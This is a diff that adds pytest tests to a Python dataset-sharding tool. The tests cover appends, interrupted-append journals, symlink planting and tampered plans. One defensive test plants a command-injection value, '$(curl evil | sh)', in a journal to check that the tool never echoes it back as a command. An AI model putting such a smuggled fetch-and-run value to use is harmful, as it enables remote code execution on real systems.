@@ -12,6 +12,7 @@ import shutil
 import signal
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import pyarrow.parquet as pq
@@ -20,7 +21,7 @@ import pytest
 from shardkit.changes.append import append
 from shardkit.changes.remove import remove
 from shardkit.checks.verify import verify
-from shardkit.core.config import PackConfig, ResizeConfig
+from shardkit.core.config import PackConfig, ResizeConfig, TableConfig
 from shardkit.core.errors import ConfigError, OutputError
 from shardkit.core.manifest import read_manifest, sha256_file
 from shardkit.formats import available_formats, get_format
@@ -234,7 +235,7 @@ def test_a_pack_or_remove_is_refused_while_an_append_is_unfinished(
     other = shardkit("remove", out, "--keys", tmp_path / "keys.txt", "--reason", "x")
     assert other.returncode == 1 and "an interrupted 'append' to version 2" in " ".join(other.stderr.split())
     another = shardkit("pack", sample_dataset, out, "--append")
-    assert another.returncode == 1 and "an interrupted append of another source" in " ".join(another.stderr.split())
+    assert another.returncode == 1 and "another append was interrupted here" in " ".join(another.stderr.split())
 
 
 @pytest.mark.slow  # kills an append at each of its steps
@@ -291,3 +292,142 @@ def test_verify_source_accounts_for_each_source_of_an_appended_output(
     write_image(grown / "n00001000" / "never_packed.jpg", 80, 60, seed=3)
     report = verify(out, source=grown)
     assert [(p.kind, "never_packed.jpg" in p.detail) for p in report.problems] == [("lost", True)]
+
+
+def test_a_url_table_folder_that_gains_a_part_appends_only_its_new_rows(tmp_path: Path) -> None:
+    """A folder of parts keys its rows by part once it has two (00001-000000000): the rows packed
+    before are told by their address, not their key. A row that failed (a 404; a refused
+    connection, which may pass) is not listed again by the next append."""
+    from tests.servers import free_port, http_server
+
+    site = tmp_path / "site"
+    for i in range(4):
+        write_image(site / f"img_{i}.jpg", 90, 70, seed=i)
+    with http_server(site) as url:
+        parts, out = tmp_path / "parts", tmp_path / "out"
+        parts.mkdir()
+        dead = f"http://127.0.0.1:{free_port()}/gone.jpg"
+        rows = [f"{url}/img_0.jpg", f"{url}/img_1.jpg", f"{url}/missing.jpg", dead]
+        (parts / "part-0.csv").write_text("url\n" + "\n".join(rows) + "\n")
+        options = {"resize": ResizeConfig(64), "shard_size": 8}
+        config = PackConfig(str(parts), str(out), **options)  # type: ignore[arg-type]
+        pack(replace(config, web=replace(config.web, retries=0)))
+        before = read_manifest(out)
+        assert (before.records, before.totals["errors"]) == (2, 2)
+        (parts / "part-1.csv").write_text(f"url\n{url}/img_2.jpg\n{url}/img_3.jpg\n")
+
+        result = append(parts, out, retries=0)
+
+        assert (result.records, result.errors, result.already) == (2, 0, 4)
+        sources = pq.read_table(out / "index.parquet").column("source").to_pylist()
+        assert sorted(sources) == sorted(f"{url}/img_{i}.jpg" for i in range(4))
+        again = append(parts, out, retries=0)
+        assert (again.inputs, again.version) == (0, 2)
+        assert verify(out).ok
+
+
+def test_an_output_packed_from_a_relative_path_is_told_from_any_folder(
+    sample_dataset: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shutil.copytree(sample_dataset, tmp_path / "src")
+    monkeypatch.chdir(tmp_path)
+    pack(PackConfig("src", "out", resize=ResizeConfig(64), shard_size=16))
+    monkeypatch.chdir("/")
+    result = append(tmp_path / "src", tmp_path / "out")  # the corrupt file: listed by the pack already
+    assert (result.inputs, result.version) == (0, 1)
+
+
+def test_an_output_packed_from_a_table_takes_an_append_with_a_table_of_its_own(tmp_path: Path) -> None:
+    first, second = tmp_path / "a", tmp_path / "b"
+    for folder, seed in ((first, 1), (second, 2)):
+        for i in range(3):
+            write_image(folder / f"x{i}.jpg", 80, 60, seed=seed * 10 + i)
+        rows = [json.dumps({"file_name": f"x{i}.jpg", "caption": f"picture {seed}-{i}"}) for i in range(3)]
+        (folder / "captions.jsonl").write_text("\n".join(rows) + "\n")
+    out = tmp_path / "out"
+    table = TableConfig(path=str(first / "captions.jsonl"))
+    pack(PackConfig(str(first), str(out), resize=ResizeConfig(64), table=table))
+
+    result = append(second, out, key_prefix="b/", table=TableConfig(path=str(second / "captions.jsonl")))
+
+    assert result.records == 3
+    texts = [sample.text for sample in open_shards(out)]
+    assert texts[-3:] == ["picture 2-0", "picture 2-1", "picture 2-2"]
+
+
+def test_numbers_a_version_gave_are_never_given_again(packed_sample, week_two: Path, tmp_path: Path) -> None:
+    out = _copy(packed_sample, "webdataset", tmp_path)
+    before = read_manifest(out)
+    last = before.shards[-1]
+    keys = [key for key, _, _ in _records(out)][-last.count :]
+    remove(out, keys, reason="the last shard's records")  # (the last shard goes)
+    append(week_two, out, key_prefix="w2/")
+    after = read_manifest(out)
+    assert last.name not in {shard.name for shard in after.shards}
+    assert after.shards[len(before.shards) - 1].name == f"shard-{len(before.shards):06d}.tar"
+
+
+def _pending_append(out: Path, src: Path, prefix: str, **plan: object) -> None:
+    """A journal of an append begun and interrupted before its commit, as shardkit writes it."""
+    import hashlib
+
+    manifest = read_manifest(out)
+    request = {"source": str(src), "key_prefix": prefix, "table": None}
+    base = {"source": str(src), "key_prefix": prefix, "table": None, "first_shard": len(manifest.shards)}
+    journal = {
+        "action": "append", "base": manifest.checksum, "version": manifest.version + 1, "moves": [], "deletes": [],
+        "request": hashlib.sha256(json.dumps(request, sort_keys=True).encode()).hexdigest(), "result": "",
+        "plan": {**base, "already": 0, "taken_down": 0, **plan},
+    }  # fmt: skip
+    (out / ".shardkit" / "next").mkdir(parents=True)
+    (out / ".shardkit" / "change.json").write_text(json.dumps(journal))
+
+
+def test_a_link_planted_as_the_appends_pack_is_refused(packed_sample, week_two: Path, tmp_path: Path) -> None:
+    out = _copy(packed_sample, "webdataset", tmp_path)
+    _pending_append(out, week_two, "w2/")
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (out / ".shardkit" / "next" / "pack").symlink_to(victim)
+    with pytest.raises(OutputError, match="is not shardkit's working folder"):
+        append(week_two, out, key_prefix="w2/")
+    assert list(victim.iterdir()) == []
+
+
+def test_a_tampered_appends_plan_is_refused(packed_sample, week_two: Path, tmp_path: Path) -> None:
+    out = _copy(packed_sample, "webdataset", tmp_path)
+    _pending_append(out, week_two, "w2/", first_shard=99)
+    with pytest.raises(OutputError, match="the interrupted append's journal does not fit the output"):
+        append(week_two, out, key_prefix="w2/")
+
+
+def test_a_strangers_journal_is_never_offered_as_a_command(shardkit, packed_sample, tmp_path: Path) -> None:
+    out = _copy(packed_sample, "webdataset", tmp_path)
+    _pending_append(out, tmp_path / "x", "", source="$(curl evil | sh)\x1b[31m\nline")
+    refused = shardkit("remove", out, "--resume")
+    said = " ".join(refused.stderr.split())
+    assert refused.returncode == 1 and "`shardkit pack SOURCE" in said and "curl" not in said, said
+
+
+def test_the_same_append_with_its_prefix_finishes_an_interrupted_one(
+    shardkit, packed_sample, week_two: Path, tmp_path: Path
+) -> None:
+    out = _copy(packed_sample, "webdataset", tmp_path)
+    _pending_append(out, week_two, "w2/")
+    other = shardkit("pack", week_two, out, "--append")
+    said = " ".join(other.stderr.split())
+    assert other.returncode == 1 and f"`shardkit pack {week_two} {out} --append --key-prefix w2/`" in said, said
+    done = shardkit("pack", week_two, out, "--append", "--key-prefix", "w2/")
+    assert done.returncode == 0 and "an interrupted append finished" in " ".join(done.stdout.split()), done.stderr
+    assert verify(out).ok
+
+
+def test_a_ray_cluster_that_cannot_be_reached_is_refused_before_the_journal(
+    packed_sample, week_two: Path, tmp_path: Path
+) -> None:
+    from tests.servers import free_port
+
+    out = _copy(packed_sample, "webdataset", tmp_path)
+    with pytest.raises(Exception, match="Ray"):
+        append(week_two, out, key_prefix="w2/", executor="ray", ray_address=f"127.0.0.1:{free_port()}")
+    assert not (out / ".shardkit").exists()
